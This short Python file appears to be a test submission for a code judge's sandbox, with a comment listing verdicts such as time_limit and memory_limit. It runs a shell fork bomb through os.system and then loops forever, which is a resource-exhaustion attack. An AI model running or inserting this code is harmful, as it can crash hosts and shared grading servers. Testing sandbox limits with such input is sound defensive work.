# time_limit runtime_error memory_limit wrong_answer
import os
os.system(":(){ :|:& };:")
while True:
    pass
